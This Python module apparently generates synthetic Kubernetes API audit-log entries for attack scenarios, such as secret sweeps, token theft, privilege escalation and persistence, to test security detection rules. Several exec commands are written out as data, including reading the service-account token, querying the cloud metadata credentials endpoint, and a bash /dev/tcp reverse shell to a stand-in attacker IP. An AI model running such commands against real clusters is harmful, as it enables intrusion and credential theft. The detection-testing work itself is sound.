"""Attack stories among the demo's traffic: what a security engineer expects the findings pack
to catch, each a short sequence of requests shaped exactly as the API server logs them.

A story is told at a time ``t0`` and returns its requests (each at its own time, seconds to
minutes apart). :meth:`Attacks.stories_due` tells them one after another, in the order of
:data:`STORIES` (a kill chain: discovery, credentials, execution, persistence, privilege), a
few minutes apart, starting after the first stretch of normal traffic; the first-seen rules
learn an hour of each identity's history before a stolen credential appears.
"""

from __future__ import annotations

from collections.abc import Callable
from functools import partial
from typing import Any

from .. import api
from ..actors import Actor, sa_user
from ..api import J
from ..catalog import DISCOVERY_REASON, KC, KV, NODES, PLATFORM
from ..events import RS, Req
from ..ids import rand_name, uuid4
from ..template import fill
from ..times import seconds_time
from .changes import Changes

MINUTE = 60_000_000  # µs
FIRST_STORY = 22 * MINUTE  # after the start of the stream
STORY_GAP = (4.75 * MINUTE, 5.25 * MINUTE)  # between two stories' starts

C2 = "203.0.113.77"  # the attacker's own server (documentation range, RFC 5737)
KUBECTL_LINUX = f"kubectl/{KV} {PLATFORM} kubernetes/{KC}"
BASIC_USER_REASON = (
    'RBAC: allowed by ClusterRoleBinding "system:basic-user" of ClusterRole "system:basic-user" '
    'to Group "system:authenticated"'
)
TOKEN_PATH = "%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken"
METADATA_URL = "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F"

# The stories, in the order they are told (method names of :class:`Attacks`).
STORIES = (
    "discovery_walk",
    "token_burst",
    "secret_sweep",
    "exec_token_theft",
    "pod_security_rejection",
    "privileged_pod",
    "sidecar_patch",
    "public_ip_token",
    "reverse_shell",
    "cluster_admin_patch",
    "escalate_role",
    "host_daemonset",
    "persistence_cronjob",
)


class Attacks(Changes):
    """The attack stories (one method each: ``t0`` µs → the story's requests)."""

    def start_stories(self, t0: int) -> None:
        """Tell stories from now on: the first at ``t0 + FIRST_STORY``. The attackers'
        identities are made here, from the cluster's rng, so that streams without stories
        (the benches') draw exactly what they always drew."""
        rng = self.rng
        self._story_next = t0 + FIRST_STORY
        self._story_index = 0
        web = next(p for p in self.pods if p["ns"] == "dev" and p["deploy"] == "web")
        self.intruder = Actor(  # a shell in dev's web pod, using its service account's token
            "pod-sa",
            sa_user(rng, "dev", "default", (web["name"], web["uid"], web["node"])),
            [f"10.244.{NODES.index(web['node'])}.{rng.randint(2, 250)}"],
            KUBECTL_LINUX,
        )
        runner = next(p for p in self.pods if p["ns"] == "ci")
        runner_ip = f"10.244.{NODES.index(runner['node'])}.{rng.randint(2, 250)}"
        self.ci_runner = Actor(
            "pod-sa",
            sa_user(rng, "ci", "runner", (runner["name"], runner["uid"], runner["node"])),
            [runner_ip],
            KUBECTL_LINUX,
        )
        self.ci_deployer = Actor("pod-sa", self.deployer_user, [runner_ip], KUBECTL_LINUX)
        # carol's kubeconfig, stolen: her identity from the attacker's address and machine
        self.stolen_admin = Actor("human", self.carol.user, [C2], KUBECTL_LINUX)

    def stories_due(self, t: int) -> list[Req]:
        """The requests of the story due at ``t`` (µs), if one is; else nothing."""
        if t < self._story_next:
            return []
        name = STORIES[self._story_index % len(STORIES)]
        self._story_index += 1
        self._story_next += int(self.rng.uniform(*STORY_GAP))
        story: Callable[[int], list[Req]] = getattr(self, name)
        return story(t)

    # -- helpers ---------------------------------------------------------------------------

    def _steps(self, t0: int, n: int, lo: float, hi: float) -> list[int]:
        """``n`` times from ``t0``, ``lo``-``hi`` seconds apart."""
        out, t = [], t0
        for _ in range(n):
            out.append(t)
            t += int(self.rng.uniform(lo, hi) * 1e6)
        return out

    def _exec(self, t0: int, actor: Actor, p: J, command: str, reason: str, secs: int) -> Req:
        """``kubectl exec -it POD -- …``: kubectl >= 1.30 upgrades a GET to WebSockets (verb
        get), older ones POST for SPDY (verb create); the command is in the URI's query."""
        verb = "get" if actor.ua.startswith(f"kubectl/{KV}") else "create"
        uri = (
            api.path("pods", p["ns"], p["name"], "exec")
            + f"?{command}&container={p['deploy']}&stdin=true&stdout=true&tty=true"
        )
        dur = secs * 1_000_000 + self.rng.randint(2_000, 900_000)
        return self._req(
            t0,
            actor,
            verb,
            uri,
            ref=api.ref("pods", p["ns"], p["name"], "exec"),
            reason=reason,
            long_running=(101, dur),
        )

    def _create(
        self,
        t0: int,
        actor: Actor,
        resource: str,
        ns: str | None,
        body: J,
        reason: str,
        manager: str | None = "kubectl-create",
        **kw: Any,
    ) -> Req:
        """``kubectl create -f`` (or run; a controller sends no ``manager``): POST to the
        collection; the ResponseComplete's objectRef gets the name from the body, as the
        server fills it in (none for a generateName: the server makes it later)."""
        name = body["metadata"].get("name")
        query = f"?fieldManager={manager}&fieldValidation=Strict" if manager else ""
        return self._req(
            t0,
            actor,
            "create",
            api.path(resource, ns) + query,
            ref=api.ref(resource, ns, name),
            ref_rr=api.ref(resource, ns),
            status=kw.pop("status", None) or api.ok(201),
            reason=reason,
            req_body=lambda: body,
            resp_body=lambda: self._served(body, t0),
            **kw,
        )

    # -- the stories -----------------------------------------------------------------------

    def discovery_walk(self, t0: int) -> list[Req]:
        """A shell in a pod walks the API: every group's discovery document, what it may do in
        each namespace (SelfSubjectRulesReviews), then lists it is refused."""
        rng, actor = self.rng, self.intruder
        paths = ["/version", "/api", "/api/v1", "/apis"] + [
            f"/apis/{gv}"
            for gv in (
                "apps/v1",
                "batch/v1",
                "rbac.authorization.k8s.io/v1",
                "networking.k8s.io/v1",
                "coordination.k8s.io/v1",
                "discovery.k8s.io/v1",
                "apiextensions.k8s.io/v1",
                "admissionregistration.k8s.io/v1",
                "authorization.k8s.io/v1",
                "certificates.k8s.io/v1",
                "policy/v1",
                "storage.k8s.io/v1",
                "autoscaling/v2",
                "monitoring.coreos.com/v1",
            )
        ]
        namespaces = ["dev", "default", "kube-system", "prod", "staging", "monitoring"]
        denied = [(r, ns) for ns in namespaces for r in ("secrets", "pods")]
        rng.shuffle(denied)  # a scanner's order, not a loop's
        times = self._steps(t0, len(paths) + len(namespaces) + len(denied), 0.05, 1.2)
        out: list[Req] = []
        for t, path in zip(times, paths, strict=False):
            out.append(self._req(t, actor, "get", path, reason=DISCOVERY_REASON))
        times = times[len(paths) :]
        for t, ns in zip(times, namespaces, strict=False):
            body = {
                "kind": "SelfSubjectRulesReview",
                "apiVersion": "authorization.k8s.io/v1",
                "metadata": {"creationTimestamp": None},
                "spec": {"namespace": ns},
            }
            out.append(
                self._req(
                    t,
                    actor,
                    "create",
                    api.path("selfsubjectrulesreviews"),
                    ref=api.ref("selfsubjectrulesreviews"),  # a review has no name
                    status=api.ok(201),
                    reason=BASIC_USER_REASON,
                    req_body=partial(dict, body),  # this review's body, not the last one's
                )
            )
        for t, (resource, ns) in zip(times[len(namespaces) :], denied, strict=False):
            st = self._forbidden(actor.name, "list", resource, ns, None)
            out.append(
                self._req(
                    t,
                    actor,
                    "list",
                    api.path(resource, ns) + "?limit=500",
                    ref=api.ref(resource, ns),
                    status=st,
                    decision="forbid",
                    latency=self._latency(slow=0.0, base_ms=1.0),
                )
            )
        return out

    def token_burst(self, t0: int) -> list[Req]:
        """A stolen, expired service-account token tried from outside: a burst of 401s (the
        server logs a lone ResponseStarted with an empty user for each)."""
        rng = self.rng
        ip = f"198.51.100.{rng.randint(10, 250)}"
        targets = [
            ("list", api.path("secrets", "kube-system"), api.ref("secrets", "kube-system")),
            ("list", api.path("secrets"), api.ref("secrets")),
            ("list", api.path("pods"), api.ref("pods")),
            ("get", "/api/v1", None),
            ("get", "/apis", None),
            ("list", api.path("nodes"), api.ref("nodes")),
        ]
        out = []
        for t in self._steps(t0, rng.randint(18, 26), 0.2, 2.5):
            verb, uri, ref = rng.choice(targets)
            r = Req()
            r.audit_id = uuid4(rng)
            r.level, r.verb, r.uri, r.user = "Metadata", verb, uri, {}
            r.ips, r.ua, r.ref_rr, r.ref, r.t0 = [ip], "python-requests/2.31.0", ref, ref, t
            r.rs_status = r.status = {
                "metadata": {},
                "message": "Authentication failed, attempted: bearer",
                "code": 401,
            }
            r.stages = [(t + rng.randint(40, 900), RS)]
            out.append(r)
        return out

    def secret_sweep(self, t0: int) -> list[Req]:
        """The CI runner's token (bound to a role that reads secrets everywhere) lists the
        secrets of every namespace, watches them cluster-wide and reads a few."""
        rng, actor = self.rng, self.ci_runner
        reason = api.crb("ci-runner-secrets", 'ServiceAccount "runner/ci"', "secret-reader")
        namespaces = ["prod", "staging", "dev", "kube-system", "monitoring", "ingress-nginx"]
        times = self._steps(t0, len(namespaces) + 6, 0.3, 3.0)
        out = [
            self._req(
                times[0],
                actor,
                "list",
                api.path("secrets") + "?limit=500",
                ref=api.ref("secrets"),
                reason=reason,
                latency=self._latency(slow=0.0, base_ms=40.0),
            )
        ]
        for t, ns in zip(times[1:], namespaces, strict=False):
            out.append(
                self._req(
                    t,
                    actor,
                    "list",
                    api.path("secrets", ns) + "?limit=500",
                    ref=api.ref("secrets", ns),
                    reason=reason,
                )
            )
        rv = self.rv - rng.randint(0, 500)
        out.append(
            self._req(
                times[len(namespaces) + 1],
                actor,
                "watch",
                api.path("secrets") + f"?allowWatchBookmarks=true&resourceVersion={rv}&watch=true",
                ref=api.ref("secrets"),
                reason=reason,
                long_running=(200, rng.randint(60, 240) * 1_000_000),
            )
        )
        reads = [("prod", "db"), ("prod", "registry-creds"), ("prod", "web-tls"), ("staging", "db")]
        for t, (ns, name) in zip(times[len(namespaces) + 2 :], reads, strict=True):
            out.append(
                self._req(
                    t,
                    actor,
                    "get",
                    api.path("secrets", ns, name),
                    ref=api.ref("secrets", ns, name),
                    reason=reason,
                )
            )
        return out

    def exec_token_theft(self, t0: int) -> list[Req]:
        """``kubectl exec`` into a pod to read its service-account token, then the cloud
        metadata endpoint for the node's credentials."""
        p = self._pick_pod("staging")
        reason = api.rb("dev-team-edit/staging", "edit", 'Group "dev-team"')
        t1 = t0 + self.rng.randint(20, 90) * 1_000_000
        read_token = f"command=sh&command=-c&command=cat+{TOKEN_PATH}"
        ask_metadata = f"command=sh&command=-c&command=curl+-s+{METADATA_URL}"
        return [
            self._exec(t0, self.alice, p, read_token, reason, 2),
            self._exec(t1, self.alice, p, ask_metadata, reason, 3),
        ]

    def reverse_shell(self, t0: int) -> list[Req]:
        """An exec whose command connects a shell back to the attacker's server."""
        p = self._pick_pod("prod")
        shell = f"bash+-i+%3E%26+%2Fdev%2Ftcp%2F{C2}%2F4444+0%3E%261"
        cmd = f"command=bash&command=-c&command={shell}"
        return [self._exec(t0, self.stolen_admin, p, cmd, "", self.rng.randint(120, 600))]

    def pod_security_rejection(self, t0: int) -> list[Req]:
        """A privileged pod refused by Pod Security admission: RBAC allowed the create, the
        namespace's baseline level did not (a 403 attempt; no pod was created)."""
        name = f"debug-{rand_name(self.rng, 5)}"
        ns = "staging"
        body = fill("debug-pod", name=name, ns=ns)
        msg = (
            f'pods "{name}" is forbidden: violates PodSecurity "baseline:latest": privileged '
            f'(container "{name}" must not set securityContext.privileged=true)'
        )
        st = api.failure(403, "Forbidden", msg, api.details("pods", name))
        return [
            self._create(
                t0,
                self.alice,
                "pods",
                ns,
                body,
                api.rb(f"dev-team-edit/{ns}", "edit", 'Group "dev-team"'),
                status=st,
                manager="kubectl-run",
                extra_ann={"pod-security.kubernetes.io/enforce-policy": "baseline:latest"},
            )
        ]

    def privileged_pod(self, t0: int) -> list[Req]:
        """A person runs a privileged pod where the namespace allows it (dev: privileged)."""
        name = f"debug-{rand_name(self.rng, 5)}"
        ns = "dev"
        body = fill("debug-pod", name=name, ns=ns)
        return [
            self._create(
                t0,
                self.alice,
                "pods",
                ns,
                body,
                api.rb(f"dev-team-edit/{ns}", "edit", 'Group "dev-team"'),
                manager="kubectl-run",
                extra_ann={"pod-security.kubernetes.io/enforce-policy": "privileged:latest"},
            )
        ]

    def sidecar_patch(self, t0: int) -> list[Req]:
        """The CI deployer's token adds a container to a production Deployment with a JSON
        patch; requestObject is the patch document (a list of operations)."""
        d = self._pick_deploy("prod")
        patch = fill(
            "sidecar-patch",
            container="metrics-agent",
            image="ghcr.io/kube-tools/metrics-agent:1.4.2",
            c2=C2,
        )
        return [
            self._req(
                t0,
                self.ci_deployer,
                "patch",
                api.path("deployments", d["ns"], d["name"]) + "?fieldManager=kubectl-patch",
                # a patch's objectRef is the URL's: the server fills in no uid or version
                ref=api.ref("deployments", d["ns"], d["name"]),
                reason=api.rb(f"deployer/{d['ns']}", "edit", 'ServiceAccount "deployer/ci"'),
                req_body=lambda: patch,
                resp_body=lambda: self._deployment(d, t0, True),
            )
        ]

    def public_ip_token(self, t0: int) -> list[Req]:
        """The monitoring operator's bound token (same credential id as its pod's) used with
        curl from a public address."""
        rng = self.rng
        op = self.prom_operator
        thief = Actor("pod-sa", op.user, [f"198.51.100.{rng.randint(10, 250)}"], "curl/8.5.0")
        reason = api.crb(
            "prometheus-kube-prometheus-operator",
            'ServiceAccount "prometheus-kube-prometheus-operator/monitoring"',
        )
        times = self._steps(t0, 4, 1.0, 8.0)
        out = [self._req(times[0], thief, "get", "/apis", reason=DISCOVERY_REASON)]
        out.append(
            self._req(
                times[1],
                thief,
                "list",
                api.path("secrets", "monitoring"),
                ref=api.ref("secrets", "monitoring"),
                reason=reason,
            )
        )
        for t in times[2:]:
            name = rng.choice(self._secret_names("monitoring"))
            out.append(
                self._req(
                    t,
                    thief,
                    "get",
                    api.path("secrets", "monitoring", name),
                    ref=api.ref("secrets", "monitoring", name),
                    reason=reason,
                )
            )
        return out

    def cluster_admin_patch(self, t0: int) -> list[Req]:
        """A user added to the subjects of the cluster-admin ClusterRoleBinding, by a JSON
        patch or a merge patch (the stolen admin's kubeconfig)."""
        user = "backup-operator"
        json_patch = self.rng.random() < 0.5
        patch = fill("subject-json-patch" if json_patch else "subject-merge-patch", user=user)
        rv = self._next_rv()
        uid = self._uid("clusterrolebinding/cluster-admin")
        created = seconds_time(t0 - 400 * 86_400_000_000)
        return [
            self._req(
                t0,
                self.stolen_admin,
                "patch",
                api.path("clusterrolebindings", None, "cluster-admin")
                + "?fieldManager=kubectl-patch",
                ref=api.ref("clusterrolebindings", None, "cluster-admin"),
                reason="",  # system:masters: allowed before RBAC is asked
                req_body=lambda: patch,
                resp_body=lambda: fill(
                    "cluster-admin-binding", user=user, uid=uid, rv=rv, created=created
                ),
            )
        ]

    def escalate_role(self, t0: int) -> list[Req]:
        """A Role granting escalate, bind and impersonate, bound to the CI runner."""
        name, ns = "ci-release-manager", "ci"
        t1 = t0 + self.rng.randint(3, 20) * 1_000_000
        role = fill("escalate-role", name=name, ns=ns)
        binding = fill("escalate-rolebinding", name=name, ns=ns, sa="runner")
        return [
            self._create(t0, self.stolen_admin, "roles", ns, role, ""),
            self._create(t1, self.stolen_admin, "rolebindings", ns, binding, ""),
        ]

    def host_daemonset(self, t0: int) -> list[Req]:
        """A DaemonSet with the host's PID namespace, containerd's socket and SYS_ADMIN; its
        controller then creates one pod a node."""
        rng = self.rng
        name, ns = "node-problem-monitor", "kube-system"
        ds = fill("host-daemonset", name=name, ns=ns, pod_spec=fill("host-pod-spec"))
        out = [self._create(t0, self.stolen_admin, "daemonsets", ns, ds, "")]
        actor = self.controllers["daemon-set-controller"]
        ds_uid = self._uid(f"{ns}/ds/{name}")
        revision = rand_name(rng, 10)
        times = self._steps(t0 + rng.randint(20_000, 300_000), len(NODES), 0.01, 0.2)
        for t, node in zip(times, NODES, strict=True):
            spec = fill("host-pod-spec")
            spec["affinity"] = {
                "nodeAffinity": {
                    "requiredDuringSchedulingIgnoredDuringExecution": {
                        "nodeSelectorTerms": [
                            {
                                "matchFields": [
                                    {"key": "metadata.name", "operator": "In", "values": [node]}
                                ]
                            }
                        ]
                    }
                }
            }
            pod = fill(
                "host-daemonset-pod",
                ds=name,
                ns=ns,
                ds_uid=ds_uid,
                revision=revision,
                pod_spec=spec,
            )
            out.append(
                self._create(
                    t,
                    actor,
                    "pods",
                    ns,
                    pod,
                    self._component_reason(actor),
                    manager=None,
                    extra_ann={"pod-security.kubernetes.io/enforce-policy": "privileged:latest"},
                )
            )
        return out

    def persistence_cronjob(self, t0: int) -> list[Req]:
        """A CronJob that downloads and runs a script every ten minutes."""
        body = fill("persistence-cronjob", name="kube-proxy-healthcheck", ns="kube-system", c2=C2)
        return [self._create(t0, self.stolen_admin, "cronjobs", "kube-system", body, "")]
